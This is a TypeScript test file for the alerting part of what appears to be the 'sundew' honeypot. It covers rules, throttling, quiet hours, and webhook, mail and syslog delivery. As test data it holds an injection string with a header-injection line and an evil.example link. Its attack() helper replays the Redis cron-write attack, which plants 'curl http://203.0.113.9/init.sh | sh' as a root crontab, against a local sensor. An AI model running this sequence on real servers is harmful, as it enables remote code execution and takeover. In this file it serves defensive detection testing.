import type { ChildProcess } from 'node:child_process';
import { spawn } from 'node:child_process';
import { createHmac } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import type { IncomingMessage, Server, ServerResponse } from 'node:http';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { SMTPServer } from 'smtp-server';
import { afterAll, beforeAll, describe, expect, onTestFinished, test } from 'vitest';
import type { Alert } from '../src/alerts/alert.ts';
import { AlertFile } from '../src/alerts/alert-file.ts';
import { createAlerter } from '../src/alerts/alerter.ts';
import { createDelivery } from '../src/alerts/delivery.ts';
import { gather } from '../src/alerts/gathered.ts';
import { messageOf } from '../src/alerts/message.ts';
import { payloadOf } from '../src/alerts/payloads/payload.ts';
import { createMail } from '../src/alerts/send/mail.ts';
import { createSyslog } from '../src/alerts/send/syslog.ts';
import { createWebhook } from '../src/alerts/send/webhook.ts';
import type { Finding } from '../src/model/finding.ts';
import type { Severity } from '../src/model/severity.ts';
import { systemClock } from '../src/platform/clock.ts';

const root = join(import.meta.dirname, '..');
const folder = mkdtempSync(join(tmpdir(), 'sundew-alerts-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));
const NASTY =
  '@everyone <!channel> [x](http://evil.example) **b**\r\nBcc: x@evil.example\u0000\u001b[2J{{7*7}}';
const START = Date.UTC(2026, 0, 15, 12);

function finding(more: Partial<Finding> = {}): Finding {
  return {
    id: 'r@s',
    rule: 'redis.cron-download',
    title: NASTY,
    axis: 'infected',
    severity: 'high',
    stage: 'execution',
    attack: ['T1053.003'],
    why: NASTY,
    advice: NASTY,
    time: START,
    vantage: 'sensor',
    sensor: 'redis-1',
    session: 's',
    peer: { address: '203.0.113.5', port: 1_234 },
    evidence: [{ event: 'e', field: 'value', excerpt: NASTY }],
    ...more,
  };
}
const alert: Alert = { rule: 'attacks', kind: 'first', gathered: gather(finding(), undefined), to: ['x'] };
const message = messageOf(alert, 'abc123', START);

function file(rule: Record<string, unknown>): AlertFile {
  return AlertFile.parse({
    channels: { x: { type: 'syslog' } },
    rules: [{ name: 'r', to: ['x'], ...rule }],
  });
}
function alerterOf(
  rule: Record<string, unknown>,
  campaignOf: (session: string) => string | undefined = () => undefined,
) {
  return createAlerter({ rules: file(rule).rules, campaignOf, known: ['old'] });
}
const at = (seconds: number) => ({ wall: START + seconds * 1_000, steady: seconds * 1_000 });

describe('when somebody is told', () => {
  test('one message a source, then what came since, at most once in a time', () => {
    const alerter = alerterOf({});
    alerter.observe([finding(), finding({ rule: 'other' })], at(0));
    expect(alerter.take(at(4))).toEqual([]);
    const first = alerter.take(at(6));
    alerter.observe([finding(), finding()], at(60));
    expect(alerter.take(at(70))).toEqual([]);
    const more = alerter.take(at(15 * 60 + 10));

    expect(first.map(({ kind, gathered }) => [kind, gathered.count])).toEqual([['first', 2]]);
    expect(more.map(({ kind, gathered }) => [kind, gathered.count])).toEqual([['more', 2]]);
  });

  test('below the threshold nobody', () => {
    const alerter = alerterOf({ threshold: { count: 3, within: '10m' } });
    for (const second of [0, 400, 800]) alerter.observe([finding()], at(second));
    expect(alerter.take(at(900))).toEqual([]);
    alerter.observe([finding()], at(901));

    expect(alerter.take(at(910)).map(({ gathered }) => gathered.count)).toEqual([3]);
  });

  test.for<[string, Record<string, unknown>, Partial<Finding>]>([
    ['a lesser severity', {}, { severity: 'low' }],
    ['an ignored address', { ignore: { addresses: ['203.0.113.0/24'] } }, {}],
    [
      'an ignored address within IPv6',
      { ignore: { addresses: ['203.0.113.5'] } },
      { peer: { address: '::ffff:203.0.113.5', port: 1 } },
    ],
    ['an ignored port', { ignore: { ports: [1_234] } }, {}],
    ['another rule', { when: { rules: ['redis.ssh-*'] } }, {}],
    ['another stage', { when: { stages: ['impact'] } }, {}],
    ['another technique', { when: { techniques: ['T1098'] } }, {}],
    ['no campaign', { when: { campaigns: 'any' } }, {}],
  ])('not of %s', ([, rule, what]) => {
    const alerter = alerterOf(rule);
    alerter.observe([finding(what)], at(0));
    expect([...alerter.take(at(20)), ...alerter.take(at(60))]).toEqual([]);
  });

  test('of a campaign that was never seen, once it shows', () => {
    const alerter = alerterOf({ when: { campaigns: 'new' }, groupBy: 'campaign' }, (session) => session);
    alerter.observe([finding({ session: 'old' }), finding({ session: 'fresh' })], at(0));

    const alerts = [...alerter.take(at(11)), ...alerter.take(at(20))];
    expect(alerts.map(({ group }) => group?.value)).toEqual(['fresh']);
  });

  test('in quiet hours of the worst only, and of the rest when they end', () => {
    const alerter = alerterOf({ quietHours: { from: '11:00', to: '13:00', except: 'critical' } });
    const bad = (severity: Severity, address: string) => finding({ severity, peer: { address, port: 1 } });
    alerter.observe([bad('high', '203.0.113.1'), bad('critical', '203.0.113.2')], at(0));

    expect(alerter.take(at(10)).map(({ gathered }) => gathered.severity)).toEqual(['critical']);
    expect(alerter.take(at(3_500))).toEqual([]);
    expect(alerter.take(at(3_700)).map(({ kind }) => kind)).toEqual(['quiet']);
  });

  test('of ten thousand sources in as many messages as the limit allows', () => {
    const alerter = alerterOf({ limit: { count: 3, within: '1h' } });
    for (let n = 0; n < 10_000; n++) {
      alerter.observe(
        [finding({ peer: { address: `10.${n >> 16}.${(n >> 8) & 255}.${n & 255}`, port: 1 } })],
        at(0),
      );
    }
    const alerts = [...alerter.take(at(10)), ...alerter.take(at(1_800)), ...alerter.take(at(3_700))];

    expect(alerts.length).toBeLessThanOrEqual(5);
    expect(alerts.reduce((sum, { gathered }) => sum + gathered.count, 0)).toBe(10_000);
  });
});

describe('the file', () => {
  test('of the documentation is right', async () => {
    const yaml =
      /```yaml\n([\s\S]*?)```/.exec(readFileSync(join(root, 'docs', 'alerts.md'), 'utf8'))?.[1] ?? '';
    const path = join(folder, 'documented.yaml');
    writeFileSync(path, yaml);
    const secrets = {
      SLACK_URL: 'https://hooks.example/x',
      SIEM_TOKEN: 't',
      SIEM_KEY: 'k',
      MAIL_PASSWORD: 'p',
    };

    const { code, out, err } = await sundew(['alerts', 'check', path], secrets);

    expect({ code, err }).toEqual({ code: 0, err: '' });
    expect(out).toContain('rule attacks: findings of high or worse in the stages tampering');
    expect(out).not.toContain('hooks.example/x');
  });

  test.for([
    [
      'rules:\n  - name: a\n    to: [x]\nchannels:\n  x: { type: syslog, facilty: local0 }\n',
      "unknown field 'facilty'",
      5,
    ],
    ['rules:\n  - name: a\n    to: [y]\nchannels:\n  x: { type: syslog }\n', "there is no channel 'y'", 3],
    [
      'rules:\n  - name: a\n    to: [x]\n    every: soon\nchannels:\n  x: { type: syslog }\n',
      'a span such as',
      4,
    ],
    ['channels: [', '', 1],
  ] as const)('says where it is wrong: %#', async ([yaml, wrong, line]) => {
    const path = join(folder, 'wrong.yaml');
    writeFileSync(path, yaml);

    const { code, err } = await sundew(['alerts', 'check', path]);

    expect(code).toBe(2);
    expect(err).toContain(wrong);
    expect(err).toContain(`line ${line}`);
  });
});

describe('what is sent', () => {
  test.for(['slack', 'discord', 'teams', 'mattermost'] as const)(
    '%s: nobody is called, nothing is a link',
    (style) => {
      const body = payloadOf(style, message);

      expect(body).not.toMatch(/@everyone|<!channel>|http:\/\/evil|\\u0000|\\u001b|\{\{7/);
      expect(Buffer.byteLength(body)).toBeLessThan(28_000);
      const { content = '' } = JSON.parse(body) as { content?: string };
      expect(content.length).toBeLessThanOrEqual(2_000);
    },
  );

  test('a plain webhook is signed, with what the operator wants in its head', async () => {
    const { server, url, requests } = await listen((_, response) => response.end());
    onTestFinished(() => void server.close());
    const send = createWebhook(
      { style: 'plain', url, headers: { 'x-team': 'a' }, key: 'k', timeoutMs: 2_000 },
      systemClock,
    );

    expect(await send(message, new AbortController().signal)).toEqual({ ok: true });
    const [{ headers, body } = { headers: {}, body: '' }] = requests;
    const signed = createHmac('sha256', 'k')
      .update(`${String(headers['x-sundew-timestamp'])}.${body}`)
      .digest('hex');
    expect(headers).toMatchObject({ 'x-team': 'a', 'x-sundew-signature': `sha256=${signed}` });
    expect(JSON.parse(body)).toMatchObject({
      kind: 'first',
      severity: 'high',
      sources: ['203.0.113.5'],
      count: 1,
    });
  });

  test.for([
    ['hangs', (): void => undefined, true, /no answer within/],
    ['is broken', (response: ServerResponse) => response.writeHead(500).end('oops'), true, /500: oops/],
    [
      'is busy',
      (response: ServerResponse) => response.writeHead(429, { 'retry-after': '7' }).end(),
      true,
      /429/,
    ],
    [
      'leads elsewhere',
      (response: ServerResponse) => response.writeHead(302, { location: 'http://127.0.0.1:1/' }).end(),
      false,
      /302/,
    ],
    ['refuses', (response: ServerResponse) => response.writeHead(403).end(), false, /403/],
  ] as const)('a webhook that %s', async ([, answer, retry, reason]) => {
    const { server, url, requests } = await listen((_, response) => answer(response));
    onTestFinished(() => {
      server.closeAllConnections();
      server.close();
    });
    const send = createWebhook({ style: 'plain', url, headers: {}, timeoutMs: 300 }, systemClock);

    const outcome = await send(message, new AbortController().signal);

    expect(outcome).toMatchObject({ ok: false, retry });
    expect(outcome.ok ? '' : outcome.reason).toMatch(reason);
    expect(requests).toHaveLength(1);
  });

  test('mail: one header a line, no line of an attacker', async () => {
    const mails: string[] = [];
    const server = new SMTPServer({
      disabledCommands: ['AUTH', 'STARTTLS'],
      onData: (stream, _, done) => {
        let text = '';
        stream
          .setEncoding('utf8')
          .on('data', (piece: string) => (text += piece))
          .on('end', () => {
            mails.push(text);
            done();
          });
      },
    });
    const listening = server.listen(0, '127.0.0.1');
    await once(listening, 'listening');
    onTestFinished(() => server.close());
    const send = createMail({
      host: '127.0.0.1',
      port: (listening.address() as AddressInfo).port,
      tls: 'none',
      from: 'sundew@example.org',
      to: ['soc@example.org'],
      timeoutMs: 3_000,
    });

    expect(await send(message, new AbortController().signal)).toEqual({ ok: true });
    const [head = ''] = (mails[0] ?? '').split('\r\n\r\n');
    expect(head).toMatch(/^To: soc@example\.org$/m);
    expect(head).not.toMatch(/^Bcc:/im);
    expect(mails[0]).not.toContain('http://evil');
  });

  test('syslog: one datagram, RFC 5424, without a line end', async () => {
    const socket = createSocket('udp4');
    socket.bind(0, '127.0.0.1');
    await once(socket, 'listening');
    onTestFinished(() => void socket.close());
    const got = once(socket, 'message') as Promise<[Buffer]>;
    const { channels } = AlertFile.parse({
      channels: { x: { type: 'syslog', port: socket.address().port } },
      rules: [{ name: 'r', to: ['x'] }],
    });
    const channel = channels['x'];
    if (channel?.type !== 'syslog') throw new Error('not syslog');

    expect(
      await createSyslog({ channel, hostname: 'here', timeoutMs: 2_000 })(
        message,
        new AbortController().signal,
      ),
    ).toEqual({ ok: true });
    const [line] = await got;
    expect(line.toString()).toMatch(
      /^<131>1 2026-01-15T12:00:00\.000Z here sundew - alert \[sundew@32473 id="abc123"/,
    );
    expect(line.includes(10)).toBe(false);
  });
});

describe('delivery', () => {
  test('goes on after failures, tells each change once, and counts what was lost', async () => {
    const told: string[] = [];
    let down = true;
    const sent: string[] = [];
    const delivery = createDelivery({
      channel: 'team',
      clock: systemClock,
      retryMs: [1, 1],
      tell: (text) => told.push(text.split('\n')[0] ?? ''),
      send: (one) => {
        if (!down) sent.push(one.id);
        return Promise.resolve(
          down ? { ok: false, retry: true, reason: 'down', remedy: 'wait' } : { ok: true },
        );
      },
    });
    for (const id of ['a', 'b']) delivery.add({ ...message, id });
    await new Promise((resolve) => setTimeout(resolve, 60));
    down = false;
    delivery.add({ ...message, id: 'c' });

    expect(await delivery.close(1_000)).toBe(0);
    expect(sent).toEqual(['c']);
    expect(told).toEqual([
      'sundew: an alert does not reach team: down.',
      'sundew: alerts reach team again; 2 were lost.',
    ]);
  });

  test('never keeps more than a hundred, and ends in time although the other side hangs', async () => {
    const delivery = createDelivery({
      channel: 'team',
      clock: systemClock,
      tell: () => undefined,
      send: (_, signal) =>
        new Promise((resolve) => {
          signal.addEventListener('abort', () =>
            resolve({ ok: false, retry: true, reason: 'stopped', remedy: '' }),
          );
        }),
    });
    for (let n = 0; n < 1_000; n++) delivery.add({ ...message, id: String(n) });

    expect(await delivery.close(100)).toBe(1_000);
  });
});

describe('sundew up --alerts', () => {
  let receiver: Awaited<ReturnType<typeof listen>>;
  const path = join(folder, 'alerts.yaml');
  beforeAll(async () => {
    receiver = await listen((_, response) => response.end());
    writeFileSync(
      path,
      `channels: { hook: { type: webhook, url: '${receiver.url.href}' } }\nrules:\n  - { name: attacks, wait: 1s, when: { severity: high }, to: [hook] }\n`,
    );
  });
  afterAll(() => {
    receiver.server.closeAllConnections();
    receiver.server.close();
  });

  test('tells of an attack once, and not again after a restart', async () => {
    const first = await startUp(path);
    await attack(first.port);
    await until(() => receiver.requests.length > 0);
    await first.stop();
    const told = receiver.requests.length;
    const second = await startUp(path);
    await new Promise((resolve) => setTimeout(resolve, 2_500));
    await second.stop();

    expect(told).toBe(1);
    expect(receiver.requests).toHaveLength(1);
    expect(JSON.parse(receiver.requests[0]?.body ?? '{}')).toMatchObject({
      kind: 'first',
      rule: 'attacks',
      sources: ['127.0.0.1'],
      severity: 'critical',
    });
  }, 60_000);

  test('refuses a wrong file before it listens', async () => {
    const wrong = join(folder, 'none.yaml');
    const { code, err } = await sundew([
      'up',
      '--data',
      join(folder, 'data2'),
      '--alerts',
      wrong,
      '--no-dashboard',
      '--no-store',
    ]);

    expect(code).toBe(2);
    expect(err).toContain('The alerts file cannot be read');
  });
});

interface Received {
  readonly headers: IncomingMessage['headers'];
  readonly body: string;
}

async function listen(
  answer: (request: IncomingMessage, response: ServerResponse) => void,
): Promise<{ server: Server; url: URL; requests: Received[] }> {
  const requests: Received[] = [];
  const server = createServer((request, response) => {
    let body = '';
    request.setEncoding('utf8').on('data', (piece: string) => (body += piece));
    request.on('end', () => {
      requests.push({ headers: request.headers, body });
      answer(request, response);
    });
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return {
    server,
    requests,
    url: new URL(`http://127.0.0.1:${(server.address() as AddressInfo).port}/hook`),
  };
}

async function sundew(
  words: readonly string[],
  env: Record<string, string> = {},
): Promise<{ code: number | null; out: string; err: string }> {
  const child = spawn(process.execPath, [join(root, 'src/cli/main.ts'), ...words], {
    env: { ...process.env, ...env },
  });
  let [out, err] = ['', ''];
  child.stdout.setEncoding('utf8').on('data', (piece: string) => (out += piece));
  child.stderr.setEncoding('utf8').on('data', (piece: string) => (err += piece));
  const [code] = (await once(child, 'close')) as [number | null];
  return { code, out, err };
}

async function startUp(alerts: string): Promise<{ port: number; stop: () => Promise<void> }> {
  const words = [
    'up',
    '--data',
    join(folder, 'data'),
    '--redis',
    '127.0.0.1:0',
    '--no-dashboard',
    '--no-store',
    '--alerts',
    alerts,
  ];
  const child: ChildProcess = spawn(process.execPath, [join(root, 'src/cli/main.ts'), ...words]);
  let out = '';
  child.stdout?.setEncoding('utf8').on('data', (piece: string) => (out += piece));
  await until(() => /Redis sensor +127\.0\.0\.1:\d+/.test(out));
  return {
    port: Number(/Redis sensor +127\.0\.0\.1:(\d+)/.exec(out)?.[1]),
    stop: async () => {
      child.kill('SIGINT');
      await once(child, 'exit');
    },
  };
}

async function attack(port: number): Promise<void> {
  const socket = connect(port, '127.0.0.1');
  const words = [
    ['SET', 'backup1', '\n\n*/2 * * * * root curl -fsSL http://203.0.113.9/init.sh | sh\n\n'],
    ['CONFIG', 'SET', 'dir', '/var/spool/cron'],
    ['CONFIG', 'SET', 'dbfilename', 'root'],
    ['SAVE'],
  ];
  for (const command of words) {
    socket.write(`*${command.length}\r\n${command.map((word) => `$${word.length}\r\n${word}\r\n`).join('')}`);
  }
  socket.on('data', () => undefined);
  await new Promise((resolve) => setTimeout(resolve, 500));
  socket.destroy();
}

async function until(holds: () => boolean): Promise<void> {
  for (let waited = 0; waited < 20_000 && !holds(); waited += 50) {
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}
